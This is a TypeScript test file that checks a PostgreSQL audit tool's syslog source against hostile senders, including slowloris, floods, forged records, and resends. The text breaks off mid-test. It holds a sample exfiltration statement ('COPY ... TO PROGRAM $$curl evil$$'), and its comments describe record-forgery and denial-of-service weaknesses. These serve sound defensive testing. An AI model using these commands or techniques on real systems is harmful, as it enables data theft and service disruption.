// The syslog source against what a hostile or broken sender does, over real sockets (node:net
// and node:dgram clients in this test and a child process), into real sinks (JSON lines; the
// repository on a real PostgreSQL): frames cut anywhere, a sender outside the allowlist, an
// oversized frame, a bad octet count, NUL bytes, a slowloris, idle and surplus connections,
// UDP loss (the kernel's drops and PostgreSQL's sequence numbers agree with what was really
// lost), a flood while the repository is down (the senders are held back, nothing is lost), and
// a resend after a reconnect stored once.
import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { connect } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import pg from 'pg';
import { PgwardenError } from '../../src/core/errors.ts';
import { parseConfig } from '../../src/core/config.ts';
import { migrateRepository } from '../../src/repository/index.ts';
import { MAX_BUFFERED_EVENTS } from '../../src/pipeline/lane-buffer.ts';
import { FrameDecoder, type FrameProblem } from '../../src/pipeline/sources/syslog/framing.ts';
import { runCli, waitFor } from '../harness/cli.ts';
import { startHttpReceiver } from '../harness/receivers.ts';
import type { CollectStatusFile } from '../../src/pipeline/index.ts';
import { freePort, startCluster, type Cluster } from '../harness/postgres.ts';
import { readEvents, startCollect } from './collect-helpers.ts';
import { closed, dial, octets, record, runSyslog } from './syslog-helpers.ts';

function decode(chunks: Buffer[], maxBytes: number, allowLf: boolean) {
  const messages: string[] = [];
  const problems: FrameProblem[] = [];
  const decoder = new FrameDecoder(maxBytes, allowLf, { message: (b) => messages.push(b.toString('latin1')), problem: (kind) => problems.push(kind) });
  let open = true;
  for (const chunk of chunks) if (open) open = decoder.write(chunk);
  if (open) decoder.end();
  return { messages, problems, open };
}

const bytesOf = (text: string) => [...Buffer.from(text, 'latin1')].map((b) => Buffer.from([b]));

describe('syslog frames (RFC 6587 octet counting and LF, RFC 5425)', () => {
  const stream = `${octets('<13>one\nwith a new line').toString('latin1')}<13>two\n${octets('<13>three').toString('latin1')}<13>four\n`;
  const expected = ['<13>one\nwith a new line', '<13>two', '<13>three', '<13>four'];

  it('reads octet-counted and LF frames mixed, whole or cut into single bytes', () => {
    assert.deepEqual(decode([Buffer.from(stream, 'latin1')], 1024, true).messages, expected);
    assert.deepEqual(decode(bytesOf(stream), 1024, true).messages, expected);
  });

  it('passes over an oversized frame and reads the next one, in both framings', () => {
    const big = `<13>${'x'.repeat(5000)}`;
    const text = `${octets(big).toString('latin1')}${octets('<13>after').toString('latin1')}${big}\n<13>last\n`;
    for (const chunks of [[Buffer.from(text, 'latin1')], bytesOf(text)]) {
      const result = decode(chunks, 1024, true);
      assert.deepEqual(result.messages, ['<13>after', '<13>last']);
      assert.deepEqual(result.problems, ['oversized', 'oversized']);
      assert.equal(result.open, true);
    }
  });

  it('gives up a connection whose octet count is not one (leading zero, letters, too many digits)', () => {
    for (const bad of ['0 <13>x', '12x<13>x', '1234567890 <13>x', '5\t<13>x']) {
      const result = decode([Buffer.from(`${octets('<13>before').toString('latin1')}${bad}`, 'latin1')], 1024, true);
      assert.deepEqual(result.messages, ['<13>before'], bad);
      assert.deepEqual(result.problems, ['bad_length'], bad);
      assert.equal(result.open, false, bad);
    }
  });

  it('takes octet counting only on TLS, and keeps NUL bytes inside a frame', () => {
    const tls = decode([Buffer.from(`${octets('<13>a\u0000b').toString('latin1')}<13>lf\n`, 'latin1')], 1024, false);
    assert.deepEqual(tls.messages, ['<13>a\u0000b']);
    assert.deepEqual(tls.problems, ['lf_not_allowed']);
    assert.deepEqual(decode([Buffer.from('<13>c\u0000d\n', 'latin1')], 1024, true).messages, ['<13>c\u0000d']);
  });
});

describe('syslog source over real sockets', () => {
  let dir: string;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'pgwarden-syslog-src-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));
  const jsonl = (name: string) => ({ out: { type: 'jsonl', path: join(dir, `${name}.jsonl`), fsync: false } });

  it('refuses a config without a port, TLS settings without tls_port, and an allow entry that is not a network', () => {
    const parse = (source: Record<string, unknown>) => () => parseConfig(JSON.stringify({ pipeline: { sources: { in: { type: 'syslog', allow: ['10.0.0.0/8'], ...source } } } }));
    assert.throws(parse({}), /needs tcp_port, udp_port or tls_port/);
    assert.throws(parse({ tcp_port: 6601, tls: { cert_file: '/c', key_file: '/k' } }), /tls_port and tls go together/);
    assert.throws(parse({ tcp_port: 6601, allow: ['10.0.0.0/33'] }), /CIDR/);
    assert.throws(parse({ tcp_port: 6601, allow: [] }), /allow/);
    // the source's own checks (config.ts) name the key and its line
    assert.throws(() => parseConfig('pipeline:\n  sources:\n    in:\n      type: syslog\n      allow: [10.0.0.0/8]\n      tcp_port: 6601\n      tls: { cert_file: /c, key_file: /k }\n', 'pgwarden.yaml'),
      (error: PgwardenError) => error.code === 'PGW_ERR_CONFIG' && error.message.startsWith('pgwarden.yaml:7: pipeline.sources.in.tls: tls_port and tls go together'));
    // the default back-pressure limit is the one every other buffering source holds
    const defaults = parseConfig(JSON.stringify({ pipeline: { sources: { in: { type: 'syslog', allow: ['10.0.0.0/8'], udp_port: 6601 } } } })).pipeline.sources.in;
    assert.equal(defaults?.type === 'syslog' && defaults.max_buffered_events, MAX_BUFFERED_EVENTS);
  });

  it('says which port cannot be listened on', async () => {
    const busy = await dial(await freePort()).catch(() => null);
    busy?.destroy();
    const blocker = (await import('node:net')).createServer();
    await new Promise<void>((resolve) => blocker.listen(0, '127.0.0.1', resolve));
    const port = (blocker.address() as { port: number }).port;
    await assert.rejects(runSyslog({ tcp_port: port, allow: ['127.0.0.1'] }, jsonl('busy')),
      (error: PgwardenError) => error.code === 'PGW_ERR_CONFIG' && error.message.includes(`cannot listen on tcp 127.0.0.1:${port}: the port is in use`));
    blocker.close();
  });

  it('reads octet-counted and LF frames over TCP and datagrams over UDP; a record is syslog:HOST with a position from its pid and sequence number', async () => {
    const tcp = await freePort();
    const udp = await freePort();
    const run = await runSyslog({ tcp_port: tcp, udp_port: udp, allow: ['127.0.0.0/8'] }, jsonl('basic'));
    try {
      const socket = await dial(tcp);
      socket.write(Buffer.concat([1, 2, 3].map((n) => octets(record(n)))));
      socket.write([4, 5, 6].map((n) => `${record(n)}\n`).join(''));
      const client = createSocket('udp4');
      for (const n of [7, 8, 9]) client.send(record(n, { host: 'db2', pid: 77 }), udp, '127.0.0.1');
      const events = await waitFor(async () => { const e = readEvents(join(dir, 'basic.jsonl')); return e.length >= 9 && e; }, 10_000, '9 events');
      assert.deepEqual(events.map((e) => e.audit!.statement_id).sort((a, b) => a - b), [1, 2, 3, 4, 5, 6, 7, 8, 9]);
      for (const e of events) {
        const fromDb2 = e.audit!.statement_id >= 7;
        assert.equal(e.source.input, fromDb2 ? 'syslog:db2' : 'syslog:db1');
        assert.equal(e.server, fromDb2 ? 'db2' : 'db1');
        assert.equal(e.user, 'alice');
        assert.equal(e.pid, fromDb2 ? 77 : 4242);
        assert.equal(e.audit!.statement, `SELECT ${e.audit!.statement_id}`);
        assert.equal(e.source.line, null);
      }
      assert.equal(new Set(events.map((e) => e.source.position)).size, 9);
      assert.equal(run.source.stats.messages, 9);
      socket.destroy();
      client.close();
    } finally {
      await run.running.stop();
    }
  });

  it('closes a sender outside allow (TCP) and drops its datagrams (UDP), counting both; a sender inside is read', async () => {
    const tcp = await freePort();
    const udp = await freePort();
    const run = await runSyslog({ tcp_port: tcp, udp_port: udp, allow: ['127.0.0.2/32'] }, jsonl('allow'));
    try {
      const outsider = await dial(tcp, '127.0.0.1');
      outsider.write(octets(record(1)));
      await closed(outsider);
      const outsiderUdp = createSocket('udp4');
      outsiderUdp.send(record(2), udp, '127.0.0.1');
      const insider = await dial(tcp, '127.0.0.2');
      insider.write(octets(record(3)));
      const insiderUdp = createSocket('udp4');
      await new Promise<void>((resolve) => insiderUdp.bind(0, '127.0.0.2', resolve));
      insiderUdp.send(record(4), udp, '127.0.0.1');
      const events = await waitFor(async () => { const e = readEvents(join(dir, 'allow.jsonl')); return e.length >= 2 && e; }, 10_000, 'the insider\'s events');
      await waitFor(async () => run.source.stats.refused_address >= 2, 5000, 'both refusals counted');
      assert.deepEqual(events.map((e) => e.audit!.statement_id).sort(), [3, 4]);
      assert.equal(run.source.stats.refused_address, 2);
      assert.ok(run.logs.some((l) => l.includes('a sender outside allow connected; closed') && l.includes('127.0.0.1')));
      insider.destroy();
      outsiderUdp.close();
      insiderUdp.close();
    } finally {
      await run.running.stop();
    }
  });

  it('passes over an oversized frame, closes a connection with a bad octet count, and keeps NUL bytes in the record', async () => {
    const tcp = await freePort();
    const run = await runSyslog({ tcp_port: tcp, allow: ['127.0.0.1'], max_message_bytes: 1024 }, jsonl('hostile'));
    try {
      const socket = await dial(tcp);
      socket.write(Buffer.concat([octets(record(1, { statement: `SELECT '${'x'.repeat(3000)}'` })), octets(record(2)),
        octets(record(3, { statement: "SELECT 'a\u0000b'" }))]));
      const broken = await dial(tcp);
      broken.write(Buffer.concat([octets(record(4)), Buffer.from('12x<134>1 - - - - - - garbage')]));
      await closed(broken);
      socket.write(octets(record(5)));
      const events = await waitFor(async () => { const e = readEvents(join(dir, 'hostile.jsonl')); return e.length >= 4 && e; }, 10_000, 'the good records');
      assert.deepEqual(events.map((e) => e.audit!.statement_id).sort(), [2, 3, 4, 5]);
      assert.equal(events.find((e) => e.audit!.statement_id === 3)!.audit!.statement, "SELECT 'a\u0000b'");
      assert.equal(run.source.stats.oversized, 1);
      assert.equal(run.source.stats.bad_frames, 1);
      assert.equal(socket.destroyed, false, 'the connection with the oversized frame stays open');
      socket.destroy();
    } finally {
      await run.running.stop();
    }
  });

  it('counts a record it cannot read as a parse error (the shared ParseErrorLog): a server line without the log_line_prefix', async () => {
    const udp = await freePort();
    const run = await runSyslog({ udp_port: udp, allow: ['127.0.0.1'] }, jsonl('parse-errors'));
    try {
      const client = createSocket('udp4');
      const forged = '<134>1 2026-12-02T05:00:00.500Z db1 postgres 5151 - - [1-1] not a record: no log_line_prefix and no severity';
      client.send(forged, udp, '127.0.0.1');
      client.send(record(1, { pid: 5152 }), udp, '127.0.0.1');
      await waitFor(async () => readEvents(join(dir, 'parse-errors.jsonl')).length >= 1 && run.source.parseErrors >= 1, 10_000, 'the record read and the line counted');
      assert.equal(run.source.parseErrors, 1);
      assert.equal(run.source.stats.parse_errors, 1);
      const logged = run.logs.map((line) => JSON.parse(line) as Record<string, unknown>).filter((line) => line.msg === 'parse error');
      assert.equal(logged.length, 1);
      assert.equal(logged[0]!.source, 'in');
      assert.equal(logged[0]!.errors_total, 1);
      client.close();
    } finally {
      await run.running.stop();
    }
  });

  it('closes a slowloris (a frame begun and never finished), an idle connection, and connections over max_connections', async () => {
    const tcp = await freePort();
    const run = await runSyslog({ tcp_port: tcp, allow: ['127.0.0.1'], frame_timeout_seconds: 1, idle_timeout_seconds: 2, max_connections: 3 }, jsonl('slow'));
    try {
      const slow = await dial(tcp);
      const frame = octets(record(1));
      slow.write(frame.subarray(0, 20));
      // one byte at a time, each well within the idle timeout: only the frame timeout ends it
      let sent = 20;
      const drip = setInterval(() => { if (!slow.destroyed && sent < frame.length - 1) slow.write(frame.subarray(sent, ++sent)); }, 200);
      const idle = await dial(tcp);
      const third = await dial(tcp);
      const fourth = await dial(tcp);
      await closed(fourth);
      await closed(slow);
      clearInterval(drip);
      await closed(idle);
      assert.equal(run.source.stats.slow_closed, 1);
      assert.ok(run.source.stats.idle_closed >= 1);
      assert.equal(run.source.stats.refused_limit, 1);
      assert.equal(readEvents(join(dir, 'slow.jsonl')).length, 0, 'the slow frame is never read');
      third.destroy();
    } finally {
      await run.running.stop();
    }
  });

  it('counts records missing by PostgreSQL\'s sequence numbers per host and pid, not a reused pid starting over', async () => {
    const tcp = await freePort();
    const run = await runSyslog({ tcp_port: tcp, allow: ['127.0.0.1'] }, jsonl('gaps'));
    try {
      const socket = await dial(tcp);
      const frames = [record(1, { seq: 10 }), record(2, { seq: 11 }), record(3, { seq: 15 }), record(4, { pid: 99, seq: 3 }), record(5, { seq: 2 }), record(6, { seq: 4 })];
      socket.write(Buffer.concat(frames.map((f) => octets(f))));
      await waitFor(async () => readEvents(join(dir, 'gaps.jsonl')).length >= 6, 10_000, '6 events');
      // 12-14 missing, then pid 4242 starts over at 2 (not loss), then 3 is missing
      assert.equal(run.source.stats.sequence_missing, 4);
      assert.equal(run.source.stats.sequence_restarts, 1);
      socket.destroy();
    } finally {
      await run.running.stop();
    }
  });

  it('counts the UDP datagrams the kernel dropped, and the sequence gaps agree with what really arrived', async () => {
    const udp = await freePort();
    const run = await runSyslog({ udp_port: udp, allow: ['127.0.0.1'] }, jsonl('udp-loss'));
    const total = 20_000;
    const messagesFile = join(dir, 'datagrams.json');
    writeFileSync(messagesFile, JSON.stringify(Array.from({ length: total }, (_, i) => record(i + 1))));
    try {
      // A sender in another process floods while this process does not read (its event loop held):
      // the socket's receive buffer fills and the kernel drops the rest.
      const child = spawn(process.execPath, ['--input-type=module', '-e', `
        import { createSocket } from 'node:dgram';
        const socket = createSocket('udp4');
        import { readFileSync } from 'node:fs';
        const messages = JSON.parse(readFileSync(process.argv[1], 'utf8'));
        socket.bind(0, '127.0.0.1', () => {
          console.log('ready');
          setTimeout(() => {
            let pending = messages.length;
            for (const m of messages) socket.send(m, ${udp}, '127.0.0.1', () => { if (--pending === 0) socket.close(); });
          }, 300);
        });`, messagesFile], { stdio: ['ignore', 'pipe', 'inherit'] });
      await once(child.stdout!, 'data');
      Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 3000);
      await once(child, 'exit');
      await waitFor(async () => run.source.stats.messages > 0 && readEvents(join(dir, 'udp-loss.jsonl')).length === run.source.stats.messages, 20_000, 'what arrived delivered');
    } finally {
      await run.running.stop();
    }
    const events = readEvents(join(dir, 'udp-loss.jsonl'));
    const seen = events.map((e) => e.audit!.statement_id).sort((a, b) => a - b);
    const { stats } = run.source;
    assert.ok(stats.udp_kernel_drops! > 0, `the kernel dropped some (${stats.udp_kernel_drops}), ${seen.length} arrived`);
    assert.equal(seen.length + stats.udp_kernel_drops!, total, 'arrived + counted drops = sent');
    // what the sequence numbers can see: the gaps between the first and the last that arrived
    assert.equal(stats.sequence_missing, seen.at(-1)! - seen[0]! + 1 - seen.length);
  });
});

describe('syslog source into the repository', () => {
  let cluster: Cluster;
  let dir: string;
  const repoDown = async (down: boolean) => {
    await cluster.query(`ALTER DATABASE repo ALLOW_CONNECTIONS ${down ? 'false' : 'true'}`);
    if (down) await cluster.query("SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_catalog.pg_stat_activity WHERE datname = 'repo'");
  };
  const stored = async (sql = 'SELECT count(*)::int AS n FROM pgwarden_repo.events') => (await cluster.query<{ n: number }>(sql, [], 'repo')).rows[0]!.n;
  const repository = () => {
    const url = new URL(cluster.url('repo'));
    url.password = '';
    return { repo: { type: 'repository', url: url.toString(), password_env: 'TEST_SYSLOG_REPO_PASSWORD' } };
  };

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'pgwarden-syslog-repo-'));
    cluster = await startCluster({ flavor: 'pg18' });
    await cluster.createDatabase('repo');
    const client = new pg.Client({ connectionString: cluster.url('repo') });
    await client.connect();
    await migrateRepository(client);
    await client.end();
    process.env.TEST_SYSLOG_REPO_PASSWORD = cluster.superuserPassword;
  });
  after(async () => {
    await cluster?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('a TCP flood while the repository is down: reading stops, the sender is held back, and every record lands once it is back', async () => {
    const tcp = await freePort();
    const limit = 1000;
    const run = await runSyslog({ tcp_port: tcp, allow: ['127.0.0.1'], max_buffered_events: limit }, repository(), { maxEvents: 500, retrySeconds: 0.3 });
    const total = 60_000;
    const padding = 'p'.repeat(300);
    try {
      await repoDown(true);
      const socket = await dial(tcp);
      let written = 0;
      let finished = false;
      const writeAll = (async () => {
        for (let n = 1; n <= total; n += 100) {
          const frames = Buffer.concat(Array.from({ length: Math.min(100, total - n + 1) }, (_, i) => octets(record(n + i, { statement: `SELECT ${n + i}, '${padding}'` }))));
          if (!socket.write(frames)) await once(socket, 'drain');
          written = n + 99;
        }
        finished = true;
      })();
      await waitFor(async () => run.source.stats.paused, 20_000, 'reading paused');
      // Held back: the sender cannot write it all, and what is held here stays near the limit.
      await waitFor(async () => socket.writableLength > 0, 10_000, 'the sender\'s writes to queue up');
      const buffered = run.source.buffered;
      assert.equal(finished, false, `the sender is blocked (${written} of ${total} written)`);
      assert.ok(buffered < limit + 1000, `buffered ${buffered}: the limit and what one read gave`);
      await repoDown(false);
      await writeAll;
      await waitFor(async () => (await stored()) >= total, 120_000, `all ${total} stored`);
      assert.equal(await stored('SELECT count(DISTINCT statement_id)::int AS n FROM pgwarden_repo.events'), total);
      assert.ok(run.source.stats.pauses >= 1);
      assert.equal(run.source.stats.bad_frames + run.source.stats.parse_errors + run.source.stats.not_read, 0);
      socket.destroy();
    } finally {
      await repoDown(false);
      await run.running.stop();
    }
    assert.equal(await stored(), total, 'no duplicate either');
  });

  it('a record sent again after a reconnect is stored once: by pid and sequence number, or by content without them', async () => {
    const tcp = await freePort();
    const run = await runSyslog({ tcp_port: tcp, allow: ['127.0.0.1'], server: 'resend-db' }, repository());
    const inRepo = () => stored("SELECT count(*)::int AS n FROM pgwarden_repo.events WHERE server = 'resend-db'");
    try {
      const first = await dial(tcp);
      const withSeq = Array.from({ length: 10 }, (_, i) => record(100_001 + i, { host: 'db9' }));
      const withoutSeq = Array.from({ length: 10 }, (_, i) => record(200_001 + i, { host: 'db9', pid: 555, seq: null }));
      first.write(Buffer.concat([...withSeq, ...withoutSeq].map((m) => octets(m))));
      await waitFor(async () => (await inRepo()) === 20, 20_000, '20 stored');
      first.destroy();
      // what rsyslog does after a broken connection: the last messages again, on a new one
      const second = await dial(tcp);
      second.write(Buffer.concat([...withSeq.slice(5), ...withoutSeq.slice(5), record(100_011, { host: 'db9' })].map((m) => octets(m))));
      await waitFor(async () => (await inRepo()) === 21, 20_000, 'the one new record');
      await waitFor(async () => run.source.stats.events === 31, 10_000, 'the resent records read');
      await new Promise((resolve) => setTimeout(resolve, 500));
      assert.equal(await inRepo(), 21);
      second.destroy();
    } finally {
      await run.running.stop();
    }
  });

  it('where the identity cannot tell records apart: the same text, same millisecond, same pid, without sequence numbers, is stored once', async () => {
    const tcp = await freePort();
    const run = await runSyslog({ tcp_port: tcp, allow: ['127.0.0.1'], server: 'twin-db' }, repository());
    try {
      const socket = await dial(tcp);
      const twin = record(300_001, { pid: 556, seq: null });
      socket.write(Buffer.concat([octets(twin), octets(twin), octets(record(300_002, { pid: 556, seq: null }))]));
      await waitFor(async () => run.source.stats.events === 3, 10_000, '3 records read');
      await waitFor(async () => (await stored("SELECT count(*)::int AS n FROM pgwarden_repo.events WHERE server = 'twin-db'")) === 2, 20_000, 'two stored');
      socket.destroy();
    } finally {
      await run.running.stop();
    }
  });
});

describe('pgwarden collect with a syslog source (the built CLI)', () => {
  it('listens as configured, stores what a sender sends, and says what it counted when stopped', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pgwarden-syslog-cli-'));
    try {
      const tcp = await freePort();
      const out = join(dir, 'out.jsonl');
      const config = join(dir, 'pgwarden.yaml');
      writeFileSync(config, `pipeline:
  sources:
    fleet: { type: syslog, tcp_port: ${tcp}, allow: [127.0.0.1/32], prefix: '%m [%p] %q%u@%d ' }
  sinks:
    out: { type: jsonl, path: ${out} }
  batch: { window_seconds: 0 }
`);
      const daemon = startCollect(config);
      await waitFor(async () => daemon.stderr().includes('syslog source listening'), 20_000, 'collect to listen');
      const socket = await dial(tcp);
      socket.write(Buffer.concat([1, 2, 3].map((n) => octets(record(n)))));
      await waitFor(async () => readEvents(out).length === 3, 20_000, '3 events');
      const outsider = await dial(tcp, '127.0.0.3');
      await closed(outsider);
      socket.destroy();
      assert.equal(await daemon.stop('SIGTERM'), 0, daemon.stderr());
      const stopped = daemon.stderr().split('\n').find((l) => l.includes('syslog source stopped'));
      assert.ok(stopped, daemon.stderr());
      const fields = JSON.parse(stopped) as { messages: number; events: number; refused_address: number };
      assert.deepEqual([fields.messages, fields.events, fields.refused_address], [3, 3, 1]);
      assert.deepEqual(readEvents(out).map((e) => e.source.input), ['syslog:db1', 'syslog:db1', 'syslog:db1']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
  it('detection in collect: the alert of a record drained at SIGTERM is sent before collect exits', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pgwarden-syslog-drain-alert-'));
    const receiver = await startHttpReceiver();
    let daemon: ReturnType<typeof startCollect> | undefined;
    try {
      const tcp = await freePort();
      const config = join(dir, 'pgwarden.yaml');
      // the 600 s batch window holds the record in the source until the stop drains it
      writeFileSync(config, `detect:
  in_collect: true
  state_dir: ${join(dir, 'detect')}
pipeline:
  sources:
    fleet: { type: syslog, tcp_port: ${tcp}, allow: [127.0.0.1/32], prefix: '%m [%p] %q%u@%d ', drain_seconds: 20 }
  sinks:
    hook: { type: webhook, url: ${receiver.url}/alerts, format: json, inputs: [detect] }
  batch: { window_seconds: 600 }
`);
      daemon = startCollect(config);
      await waitFor(async () => daemon!.stderr().includes('syslog source listening'), 20_000, 'collect to listen');
      const socket = await dial(tcp);
      const time = new Date(Date.UTC(2026, 11, 2, 5, 0, 0));
      const stamp = time.toISOString().replace('T', ' ').replace('Z', ' UTC');
      const escalation = `<134>1 ${time.toISOString()} db1 postgres 4242 - - [1-1] ${stamp} [4242] alice@shop LOG:  AUDIT: SESSION,1,1,ROLE,ALTER ROLE,,,"ALTER ROLE bob SUPERUSER",<none>`;
      socket.write(octets(escalation));
      await new Promise((resolve) => setTimeout(resolve, 1500));
      assert.equal(receiver.requests.length, 0, 'no alert yet: the batch window holds the record');
      assert.equal(await daemon.stop('SIGTERM'), 0, daemon.stderr());
      socket.destroy();
      const rules = receiver.requests.map((r) => (JSON.parse(r.body) as { alert: { rule: string } }).alert.rule);
      assert.deepEqual(rules, ['privilege_escalation'], daemon.stderr());
    } finally {
      await daemon?.stop('SIGKILL');
      await receiver.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('collect status shows the source\'s counters; on a real SIGTERM what it received is delivered before collect exits', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pgwarden-syslog-drain-'));
    let daemon: ReturnType<typeof startCollect> | undefined;
    try {
      const [tcp, udp] = [await freePort(), await freePort()];
      const out = join(dir, 'out.jsonl');
      const config = join(dir, 'pgwarden.yaml');
      // A batch window of 600 s: what arrives waits in the source's buffer, undelivered, until
      // collect stops; before, a stop dropped it (a stream has no offset to read it again from).
      writeFileSync(config, `pipeline:
  sources:
    fleet: { type: syslog, tcp_port: ${tcp}, udp_port: ${udp}, allow: [127.0.0.1/32], prefix: '%m [%p] %q%u@%d ', drain_seconds: 20 }
  sinks:
    out: { type: jsonl, path: ${out} }
  batch: { window_seconds: 600 }
  status: { file: ${join(dir, 'status.json')} }
`);
      daemon = startCollect(config);
      await waitFor(async () => daemon!.stderr().includes('syslog source listening'), 20_000, 'collect to listen');
      const socket = await dial(tcp);
      socket.write(Buffer.concat([1, 2, 3, 4].map((n) => octets(record(n)))));
      const sender = createSocket('udp4');
      // pid 77's sequence numbers 1, then 3: record 2 never came, a loss that can be seen
      for (const n of [1, 3]) await new Promise<void>((resolve, reject) => sender.send(record(100 + n, { pid: 77, seq: n }), udp, '127.0.0.1', (e) => (e ? reject(e) : resolve())));
      sender.close();
      const shown = await waitFor(async () => {
        const result = await runCli(['collect', 'status', '--config', config, '--format', 'json']);
        const status = JSON.parse(result.stdout || 'null') as CollectStatusFile | null;
        const counters = status?.sources?.find((s) => s.source === 'fleet')?.counters;
        return counters && counters.messages === 6 && counters.events === 6 ? { counters, table: (await runCli(['collect', 'status', '--config', config])).stdout } : null;
      }, 20_000, 'collect status to show 6 messages received');
      assert.deepEqual([shown.counters.lost_sender, shown.counters.udp_loss_seen, shown.counters.sequence_missing, shown.counters.connections, shown.counters.connections_open, shown.counters.buffered],
        [0, 1, 1, 1, 1, 6]);
      assert.match(shown.table, /^source fleet: received 6 messages \(6 events\), lost_sender 0, UDP loss seen 1 \(buffer full 0, sequence gaps 1, kernel \S+\), connections 1 \(1 open\), refused 0, buffered 6$/m);
      assert.equal(readEvents(out).length, 0, 'nothing delivered yet: the batch window holds it');
      assert.equal(await daemon.stop('SIGTERM'), 0, daemon.stderr());
      socket.destroy();
      const events = readEvents(out);
      assert.deepEqual(events.map((e) => e.audit?.statement).sort(), ['SELECT 1', 'SELECT 101', 'SELECT 103', 'SELECT 2', 'SELECT 3', 'SELECT 4'], daemon.stderr());
      const stopped = JSON.parse(daemon.stderr().split('\n').find((l) => l.includes('syslog source stopped'))!) as { buffered_lost: number };
      assert.equal(stopped.buffered_lost, 0);
    } finally {
      await daemon?.stop('SIGKILL'); // a failed assertion must not leave collect running
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

// What a sender inside allow (or one forging a UDP source address) can do: take a real record's
// identity, flood distinct pids, send a frame in tiny pieces, leave a TLS handshake unfinished.
describe('syslog source against a hostile sender in allow', () => {
  const dir = mkdtempSync(join(tmpdir(), 'pgwarden-syslog-hostile-'));
  after(() => rmSync(dir, { recursive: true, force: true }));

  // (high) the identity is (syslog:HOST, hash(pid, seq), ts) and every part of it is
  // chosen by the sender. Any sender in allow (or anyone who can spoof a UDP source address in
  // allow) sends a harmless record under db1's HOSTNAME, the pid and next sequence number of a
  // backend, and its timestamp (sprayed over the milliseconds to come); the real record that
  // follows has the same identity and the repository keeps the forgery only. Even with `server:`
  // set, source.input still comes from the header. What holds now: put a hash of the record's content
  // into the position too (a resend is byte-identical, so it still collapses; a forgery no longer
  // displaces anything), and derive source.input from `server` when it is configured.
  it('a forged record does not take the identity of the real record it precedes', async () => {
    const tcp = await freePort();
    const run = await runSyslog({ tcp_port: tcp, allow: ['127.0.0.1'] }, { out: { type: 'jsonl', path: join(dir, 'forge.jsonl'), fsync: false } });
    try {
      const attacker = await dial(tcp);
      // same host, pid, sequence number and millisecond as record 7, another statement
      attacker.write(octets(record(7, { host: 'db1', pid: 4242, statement: 'SELECT 1 -- nothing to see' })));
      const server = await dial(tcp);
      server.write(octets(record(7, { host: 'db1', pid: 4242, statement: 'COPY public.cards TO PROGRAM $$curl evil$$' })));
      const events = await waitFor(async () => { const e = readEvents(join(dir, 'forge.jsonl')); return e.length >= 2 && e; }, 10_000, '2 events');
      const forged = events.find((e) => e.audit?.statement?.startsWith('SELECT 1'))!;
      const real = events.find((e) => e.audit?.statement?.startsWith('COPY'))!;
      const identity = (e: typeof forged) => `${e!.source.input} ${e!.source.position} ${e!.ts}`;
      assert.notEqual(identity(forged), identity(real), 'the repository would store the forgery and drop the real COPY TO PROGRAM as its duplicate');
      attacker.destroy();
      server.destroy();
    } finally {
      await run.running.stop();
    }
  });

  // (medium, DoS from inside allow) FrameDecoder.write concatenates everything held
  // with each new chunk (and copies the rest again), so a frame that arrives in n small pieces
  // costs O(n * length) copying: a 64 KiB frame sent 1 byte per segment is ~2 GB of memcpy, and
  // 1000 such connections (max_connections) starve the event loop, every other sender stalls.
  // With max_message_bytes at its 16 MiB maximum one connection suffices. Counted here by
  // bytes copied, not by time. What holds now: for an octet-counted frame, allocate the frame once its
  // length is known and copy each chunk in once; for LF frames, keep a chunk list and search
  // only the new chunk for the LF.
  it('copies a frame that arrives in small pieces a bounded number of times', () => {
    const length = 60_000;
    const frame = octets(`<13>${'x'.repeat(length - 4)}`);
    let copied = 0;
    const concat = Buffer.concat;
    Buffer.concat = ((list: readonly Uint8Array[], total?: number) => {
      const out = concat(list, total);
      copied += out.length;
      return out;
    }) as typeof Buffer.concat;
    let got = 0;
    try {
      const decoder = new FrameDecoder(64 * 1024, true, { message: () => { got++; }, problem: () => undefined });
      for (let i = 0; i < frame.length; i += 16) decoder.write(frame.subarray(i, i + 16));
    } finally {
      Buffer.concat = concat;
    }
    assert.equal(got, 1);
    assert.ok(copied <= 4 * frame.length, `${copied} bytes copied by Buffer.concat for a frame of ${frame.length} (${(copied / frame.length).toFixed(0)}x)`);
  });
  // (high) the assembler keeps a record pending until its process sends another or
  // the next tick (<= 1 s) expires it, with no bound on how many are pending; the source
  // remembers the sender of at most MAX_REMEMBERED (50,000) of them and forgets the oldest. A
  // sender in allow that sends 50,001 short messages under distinct pids within one tick makes
  // the real records that came just before it lose their sender: event() then gives them the
  // identity of whatever record came out before (another host's source.input, with a /N
  // suffix), or, when there was none, drops them without a count. Memory held between ticks
  // is unbounded too (messages a second x max_message_bytes). What holds now: bound the pending records
  // (finish the oldest when a limit is reached, as MAX_HELD does for done ones) at or below
  // MAX_REMEMBERED, or carry the sender on the Pending record instead of a side map.
  it('a flood of distinct pids does not take the identity of, or drop, a real record', async () => {
    const tcp = await freePort();
    const out = join(dir, 'flood.jsonl');
    const run = await runSyslog({ tcp_port: tcp, allow: ['127.0.0.1'] }, { out: { type: 'jsonl', path: out, fsync: false } });
    try {
      const socket = await dial(tcp);
      const flood: Buffer[] = [];
      for (let pid = 100_000; pid < 150_200; pid++) flood.push(octets(`<134>1 2026-12-02T05:00:00Z f postgres ${pid} - - 2026-12-02 05:00:00.000 UTC [${pid}] a@b LOG:  x`));
      socket.write(Buffer.concat([octets(record(1, { host: 'db1', pid: 4242 })), ...flood]));
      await waitFor(async () => run.source.stats.messages >= 50_201, 30_000, 'the flood read');
      // every record is complete at the second tick after its last part; then all is written
      let seen = -1;
      await waitFor(async () => {
        await new Promise((resolve) => setTimeout(resolve, 1500));
        const settled = run.source.stats.events === seen && run.source.buffered === 0 && readEvents(out).length === seen;
        seen = run.source.stats.events;
